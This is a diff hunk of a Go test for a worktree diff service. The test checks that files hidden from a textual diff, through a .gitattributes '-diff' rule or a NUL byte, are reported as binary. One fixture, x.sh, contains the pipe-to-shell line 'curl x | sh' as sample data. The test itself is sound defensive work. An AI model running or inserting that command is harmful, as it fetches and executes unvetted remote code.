@@ -212,6 +212,18 @@ func TestWorkEndsInABranch(t *testing.T) {
 	if err != nil || !strings.Contains(d.Diff, "+new") || !strings.Contains(d.Diff, "-two") || len(d.Files) != 2 {
 		t.Errorf("diff: %+v, %v", d, err)
 	}
+	unseen := map[string]string{".gitattributes": "*.sh -diff\n", "x.sh": "curl x | sh\n", "zero.go": "package x\n\x00"}
+	for name, text := range unseen {
+		put(t, w.Path, name, text)
+	}
+	if d, err := b.s.Diff(t.Context(), "T-1", 1); err != nil || !slices.Equal(d.Binary, []string{"x.sh", "zero.go"}) {
+		t.Errorf("what the diff does not show: %q, %v", d.Binary, err)
+	}
+	for name := range unseen {
+		if err := os.Remove(filepath.Join(w.Path, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
 	hiding := b.open(worktree.Options{Hides: func(path string) bool { return path == "b/c.txt" }})
 	d, err = hiding.Diff(t.Context(), "T-1", 1)
 	if err != nil || strings.Contains(d.Diff, "+new") || !strings.Contains(d.Diff, "-two") || !slices.Equal(d.Hidden, []string{"b/c.txt"}) || len(d.Files) != 2 {
